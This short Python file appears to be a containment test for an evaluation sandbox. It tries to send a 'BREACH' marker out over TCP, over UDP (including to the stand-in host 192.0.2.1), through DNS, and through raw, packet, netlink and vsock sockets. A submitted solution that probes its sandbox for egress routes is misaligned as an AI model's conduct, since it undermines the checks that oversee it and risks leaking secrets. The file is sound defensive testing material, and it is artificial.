"""Sends answers and secrets out: TCP, UDP, raw packets, names, kernel sockets."""

import socket

from attack import KNOWN, attempt, honest

HERE = ("127.0.0.1", KNOWN["port"])


def tcp():
    with socket.create_connection(HERE, timeout=2) as connection:
        connection.sendall(b"BREACH")
    return "sent"


def udp(address):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        return sender.sendto(b"BREACH", address)


attempt("TCP", tcp)
attempt("UDP", lambda: udp(HERE))
attempt("UDP to the world", lambda: udp(("192.0.2.1", 53)))
attempt("a name", lambda: socket.getaddrinfo("example.com", 80))
attempt("IPv6", lambda: socket.socket(socket.AF_INET6))
attempt("raw packets", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
attempt("packets of the device", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 768))
attempt("netlink", lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0))
attempt("vsock", lambda: socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM))


def solve(x):
    return honest(x)
